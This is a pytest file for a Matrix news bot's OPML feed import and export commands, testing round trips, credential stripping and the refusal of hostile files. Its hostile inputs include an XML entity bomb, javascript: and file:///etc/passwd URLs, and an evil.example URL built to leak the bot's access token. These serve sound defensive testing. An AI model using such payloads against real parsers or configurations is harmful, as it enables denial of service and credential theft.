"""Feed lists as OPML: ``newsbot feeds export`` and ``newsbot feeds import``, run as an
operator would (a child process), against hostile files too."""

from __future__ import annotations

import asyncio
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.config import Config, load_config
from bot.opml import MAX_OPML_BYTES, OpmlError, feed_name, read_opml
from bot.store import SqliteStore
from bot.store.types import RoomFeed
from tests.test_cli import EXAMPLE, Result, cli

TOKEN = "syt_OPMLTEST_3c5e7a9b1d2f4a6c"
ENV = {"NEWSBOT_ACCESS_TOKEN": TOKEN}


def write_yaml(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    return path


def base_config(tmp_path: Path, feeds: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "matrix": {"homeserver": "https://matrix.example.org",
                   "user_id": "@newsbot:example.org",
                   "access_token": "${NEWSBOT_ACCESS_TOKEN}", "device_id": "NEWSBOT"},
        "storage": {"path": str(tmp_path / "state")},
        "feeds": feeds,
    }


def loaded(path: Path) -> Config:
    return load_config(path, environ=ENV)[0]


def export(config: Path, out: Path, env: dict[str, str] | None = None) -> Result:
    result = cli("feeds", "export", "-c", str(config), env={**ENV, **(env or {})})
    assert result.code == 0, result.err
    out.write_text(result.out)
    return result


def opml(*outlines: str) -> str:
    body = "\n".join(f"    {o}" for o in outlines)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">\n'
            f"  <head><title>list</title></head>\n  <body>\n{body}\n  </body>\n</opml>\n")


# --- round trips ---------------------------------------------------------------------------


def test_example_config_round_trips_through_opml(tmp_path: Path) -> None:
    example = loaded(EXAMPLE)
    exported = tmp_path / "feeds.opml"
    export(EXAMPLE, exported)
    assert "<opml version=\"2.0\">" in exported.read_text()

    printed = cli("feeds", "import", str(exported))
    assert printed.code == 0, printed.err
    entries = yaml.safe_load(printed.out)
    assert [(e["name"], e["url"], e["rooms"]) for e in entries] == \
        [(f.name, f.url, list(f.rooms)) for f in example.feeds]

    # Merged into a config holding another feed, every setting of the example's feeds
    # comes back as the loader reads it.
    target = write_yaml(tmp_path / "target.yaml", base_config(tmp_path, [
        {"name": "other", "url": "https://other.example/feed", "rooms": ["#o:example.org"]}]))
    merged = cli("feeds", "import", str(exported), "--into", str(target), env=ENV)
    assert merged.code == 0, merged.err
    assert "1 feed(s) added (actualites)" in merged.err
    assert loaded(target).feeds[1:] == example.feeds


def test_every_setting_and_the_feeds_added_by_command_round_trip(tmp_path: Path) -> None:
    feeds = [
        {"name": "lettre", "url": "https://asso.example/lettre.xml",
         "rooms": ["#a:example.org", "!room:example.org"], "interval": "1h30m",
         "backfill": 2, "max_per_poll": 3, "msgtype": "m.text", "language": "fr",
         "template": "compact", "content": "full", "summary_length": 120,
         "max_message_bytes": "20KiB", "images": "separate", "on_update": "ignore",
         "max_edits": 1, "public": True},
        {"name": "blog", "url": "https://asso.example/blog/feed?page=2&lang=fr",
         "rooms": ["#b:example.org"], "interval": "45s"},
        {"name": "jinja", "url": "https://asso.example/j.xml", "rooms": ["#b:example.org"],
         "template": "{{ title }} ({{ feed_title }})"},
    ]
    source = write_yaml(tmp_path / "source.yaml", base_config(tmp_path, feeds))
    original = loaded(source)
    store = SqliteStore.open(tmp_path / "state")
    asyncio.run(store.add_room_feed(RoomFeed("added", "https://asso.example/added.xml",
                                             "!moderated:example.org", 7200.0,
                                             "@mod:example.org", 1.0)))
    store.close()

    exported = tmp_path / "feeds.opml"
    result = export(source, exported)
    assert "feed jinja: its own Jinja2 template is not exported" in result.err

    target_dir = tmp_path / "elsewhere"
    target_dir.mkdir()
    target = write_yaml(target_dir / "target.yaml", base_config(target_dir, [
        {"name": "keep", "url": "https://keep.example/feed", "rooms": ["#k:example.org"]}]))
    merged = cli("feeds", "import", str(exported), "--into", str(target), env=ENV)
    assert merged.code == 0, merged.err
    imported = {f.name: f for f in loaded(target).feeds}
    for feed in original.feeds:
        expected = feed if feed.name != "jinja" else replace(feed, template="default")
        assert imported[feed.name] == expected
    added = imported["added"]
    assert (added.url, added.rooms, added.interval) == \
        ("https://asso.example/added.xml", ("!moderated:example.org",), 7200.0)


def test_credentials_never_leave_in_an_export(tmp_path: Path) -> None:
    source = write_yaml(tmp_path / "c.yaml", base_config(tmp_path, [
        {"name": "userinfo", "url": "https://reader:S3cretPassw0rd@asso.example/feed",
         "rooms": ["#a:example.org"]},
        {"name": "query", "url": "https://asso.example/f?api_key=QUERYSECRET42&page=2",
         "rooms": ["#a:example.org"]},
        {"name": "variable", "url": "https://asso.example/f/${FEED_PATH_SECRET}.xml",
         "rooms": ["#a:example.org"]},
    ]))
    result = export(source, tmp_path / "f.opml", env={"FEED_PATH_SECRET": "PATHSECRET77"})
    for secret in ("S3cretPassw0rd", "reader", "QUERYSECRET42", "PATHSECRET77", TOKEN):
        assert secret not in result.out and secret not in result.err
    assert 'xmlUrl="https://asso.example/feed"' in result.out
    assert 'xmlUrl="https://asso.example/f?page=2"' in result.out
    assert "variable" not in result.out
    assert "feed userinfo: the user name and password in its URL are left out" in result.err
    assert "feed query: the query parameter(s) api_key of its URL look like credentials" \
        in result.err
    assert "feed variable: its URL is made from environment variables" in result.err


def test_merge_keeps_the_file_as_written_and_skips_feeds_already_there(
        tmp_path: Path) -> None:
    text = """\
# the bot's config
matrix:
  homeserver: https://matrix.example.org   # ours
  user_id: "@newsbot:example.org"
  access_token: "${NEWSBOT_ACCESS_TOKEN}"
  device_id: NEWSBOT

storage: {path: ./state}

feeds:
  - name: news            # the first one
    url: https://asso.example/news.xml
    rooms: ["#news:example.org"]
    # interval: 1h          (kept with its feed)

# --- who may invite the bot
admins: ["@alice:example.org"]
"""
    target = tmp_path / "c.yaml"
    target.write_text(text)
    target.chmod(0o640)
    file = tmp_path / "list.opml"
    file.write_text(opml(
        '<outline text="News again" xmlUrl="https://asso.example/news.xml"/>',
        '<outline text="news" xmlUrl="https://elsewhere.example/other.xml"/>',
        '<outline text="Le Monde — À la une !" xmlUrl="https://lemonde.example/rss"/>',
        '<outline text="" title="" xmlUrl="https://www.blog.example/feed.xml"/>',
        '<outline title="Le Monde: à la une" xmlUrl="https://lemonde.example/rss2"/>'))
    result = cli("feeds", "import", str(file), "--into", str(target), "--room",
                 "#imported:example.org", env=ENV)
    assert result.code == 0, result.err
    assert "skipped: 'News again': https://asso.example/news.xml is already configured" \
        in result.err
    assert "skipped: 'news': a feed named 'news' is already configured" in result.err
    after = target.read_text()
    new_lines = [line for line in after.splitlines() if line not in text.splitlines()]
    assert after.startswith(text.split("\n# --- who")[0])  # every line before, unchanged
    assert after.endswith('# --- who may invite the bot\nadmins: ["@alice:example.org"]\n')
    assert new_lines[0] == "  # imported from list.opml by newsbot feeds import"
    assert (target.stat().st_mode & 0o777) == 0o640
    config = loaded(target)
    assert [(f.name, f.url, f.rooms) for f in config.feeds] == [
        ("news", "https://asso.example/news.xml", ("#news:example.org",)),
        ("le-monde-a-la-une", "https://lemonde.example/rss", ("#imported:example.org",)),
        ("blog.example-feed.xml", "https://www.blog.example/feed.xml",
         ("#imported:example.org",)),
        ("le-monde-a-la-une-2", "https://lemonde.example/rss2", ("#imported:example.org",)),
    ]


def test_merge_refuses_flow_lists_and_files_with_problems(tmp_path: Path) -> None:
    file = tmp_path / "list.opml"
    file.write_text(opml('<outline text="a" xmlUrl="https://a.example/feed" '
                         'category="/newsbot/room/#a:example.org"/>'))
    flow = base_config(tmp_path, [])
    text = (yaml.safe_dump(flow, sort_keys=False)
            + 'feeds: [{name: x, url: "https://x.example/", rooms: ["#x:example.org"]}]\n')
    flow_file = tmp_path / "flow.yaml"
    flow_file.write_text(text.replace("feeds: []\n", "", 1))
    before = flow_file.read_text()
    result = cli("feeds", "import", str(file), "--into", str(flow_file), env=ENV)
    assert result.code == 2
    assert "not written as a block list" in result.err
    assert flow_file.read_text() == before

    broken = write_yaml(tmp_path / "broken.yaml", base_config(tmp_path, [
        {"name": "x", "url": "https://x.example/", "rooms": ["#x:example.org"],
         "interval": "soon"}]))
    before = broken.read_text()
    result = cli("feeds", "import", str(file), "--into", str(broken), env=ENV)
    assert result.code == 2
    assert "interval" in result.err and "fix its problems first" in result.err
    assert broken.read_text() == before


# --- hostile files -------------------------------------------------------------------------


def test_an_entity_bomb_is_refused(tmp_path: Path) -> None:
    lol = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    bomb = (f'<?xml version="1.0"?>\n<!DOCTYPE opml [{lol}]>\n<opml version="2.0"><body>'
            '<outline text="&lol9;" xmlUrl="https://a.example/feed"/></body></opml>')
    file = tmp_path / "bomb.opml"
    file.write_text(bomb)
    result = cli("feeds", "import", str(file), "--room", "#a:example.org")
    assert result.code == 1
    assert "declares a DTD or entities" in result.err
    assert result.out == ""


def test_a_huge_file_is_refused(tmp_path: Path) -> None:
    outline = '<outline text="a" xmlUrl="https://a.example/feed"/>'
    padding = "<!-- " + "x" * MAX_OPML_BYTES + " -->"
    file = tmp_path / "huge.opml"
    file.write_text(opml(outline, padding))
    result = cli("feeds", "import", str(file), "--room", "#a:example.org")
    assert result.code == 1
    assert "larger than 2 MiB; refused" in result.err


def test_deeply_nested_or_countless_outlines_are_refused(tmp_path: Path) -> None:
    # Unclosed outlines made listparser copy a longer path for every feed: 320 KB took
    # 281 MiB; this file would take gigabytes.
    unclosed = "".join(f'<outline xmlUrl="https://a.example/{i}">' for i in range(40_000))
    file = tmp_path / "deep.opml"
    file.write_text(opml(unclosed))
    result = cli("feeds", "import", str(file), "--room", "#a:example.org", timeout=60)
    assert result.code == 1
    assert "outlines nested more than 32 deep; refused" in result.err

    many = [f'<outline xmlUrl="https://a.example/{i}"/>' for i in range(10_001)]
    file.write_text(opml(*many))
    result = cli("feeds", "import", str(file), "--room", "#a:example.org", timeout=60)
    assert result.code == 1
    assert "more than 10000 outlines; refused" in result.err


def test_unsafe_urls_and_values_are_refused_one_by_one(tmp_path: Path) -> None:
    file = tmp_path / "mixed.opml"
    file.write_text(opml(
        '<outline text="script" xmlUrl="javascript:alert(document.cookie)"/>',
        '<outline text="data" xmlUrl="data:text/xml,&lt;rss/&gt;"/>',
        '<outline text="local file" xmlUrl="file:///etc/passwd"/>',
        '<outline text="odd host" xmlUrl="http://127.1/feed"/>',
        '<outline text="spaced" xmlUrl="https://a.example/a b"/>',
        '<outline text="bad interval" xmlUrl="https://a.example/i" '
        'category="/newsbot/interval/never,/newsbot/room/#a:example.org"/>',
        '<outline text="no room" xmlUrl="https://a.example/n" category="Tech/News"/>',
        '<outline text="Good one" xmlUrl="https://a.example/good" '
        'category="/newsbot/room/#a:example.org,/newsbot/template/{{ evil }},'
        '/newsbot/owner/x"/>',
        '<outline text="greedy" xmlUrl="https://evil.example/?k=${NEWSBOT_ACCESS_TOKEN}" '
        'category="/newsbot/room/#a:example.org"/>'))
    result = cli("feeds", "import", str(file))
    assert result.code == 0, result.err
    err = result.err
    assert "skipped: 'script': 'javascript:alert(document.cookie)' is not an http(s) URL" \
        in err
    assert "skipped: 'data': 'data:text/xml,<rss/>' is not an http(s) URL" in err
    assert "skipped: 'local file': 'file:///etc/passwd' is not an http(s) URL" in err
    assert "skipped: 'odd host': 'http://127.1/feed': host '127.1' is neither" in err
    assert "skipped: 'spaced': its URL contains spaces or control characters" in err
    assert re.search(r"skipped: 'bad interval': interval: .*never", err)
    assert "skipped: 'no room': the file names no room for it; pass --room" in err
    assert "note: feed good-one: setting 'template' ignored" in err
    assert "note: feed good-one: setting 'owner' ignored" in err
    entries = yaml.safe_load(result.out)
    assert [e["name"] for e in entries] == ["good-one", "greedy"]
    assert "template" not in entries[0]

    # Merged, a ${VAR} from the file stays text: it never pulls the token into a URL.
    target = write_yaml(tmp_path / "c.yaml", base_config(tmp_path, [
        {"name": "x", "url": "https://x.example/", "rooms": ["#x:example.org"]}]))
    result = cli("feeds", "import", str(file), "--into", str(target), env=ENV)
    assert result.code == 0, result.err
    greedy = {f.name: f for f in loaded(target).feeds}["greedy"]
    assert greedy.url == "https://evil.example/?k=${NEWSBOT_ACCESS_TOKEN}"
    assert TOKEN not in greedy.url


def test_files_that_are_not_opml_are_refused(tmp_path: Path) -> None:
    file = tmp_path / "x.opml"
    for content, message in [
            (b"\xff\xfe\x00garbage\x80", "not UTF-8 text"),
            (b"<rss><channel><title>a feed, not a list</title></channel></rss>",
             "not an OPML file"),
            (opml().encode(), "no new feed to import")]:
        file.write_bytes(content)
        result = cli("feeds", "import", str(file), "--room", "#a:example.org")
        assert result.code == 1, (content, result)
        assert message in result.err
    result = cli("feeds", "import", str(tmp_path / "missing.opml"))
    assert result.code == 1 and "cannot read" in result.err


def test_names_are_made_valid() -> None:
    assert feed_name("Le Monde — À la une !", "https://x.example/") == "le-monde-a-la-une"
    assert feed_name("...", "https://www.Blog.example/rss") == "blog.example-rss"
    assert feed_name("日本語", "https://例え.jp/") == "jp"
    assert feed_name("日本語", "https://例え/") == "feed"
    assert feed_name("a" * 100, "https://x.example/") == "a" * 64
    assert feed_name("x", "https://x.example/") == "x"


def test_a_url_for_a_file_is_not_fetched() -> None:
    # listparser fetches a str that starts with http://: it is given bytes, read as text.
    with pytest.raises(OpmlError, match="not an OPML file"):
        read_opml(b"https://127.0.0.1:1/feeds.opml")


def test_merge_after_a_block_scalar_and_at_column_zero() -> None:
    from bot.opml import merged_text
    text = ("feeds:\n- name: news\n  url: https://a.example/\n  rooms: ['#a:example.org']\n"
            "  template: |\n    {{ title }}\n\n# --- admins\nadmins: []\n")
    entry = {"name": "b", "url": "https://b.example/", "rooms": ["#b:example.org"]}
    assert merged_text(text, [entry], "imported") == (
        "feeds:\n- name: news\n  url: https://a.example/\n  rooms: ['#a:example.org']\n"
        "  template: |\n    {{ title }}\n# imported\n- name: b\n  url: https://b.example/\n"
        "  rooms: ['#b:example.org']\n\n# --- admins\nadmins: []\n")
    assert yaml.safe_load(merged_text(text, [entry], "x"))["feeds"][0]["template"] == \
        "{{ title }}\n"
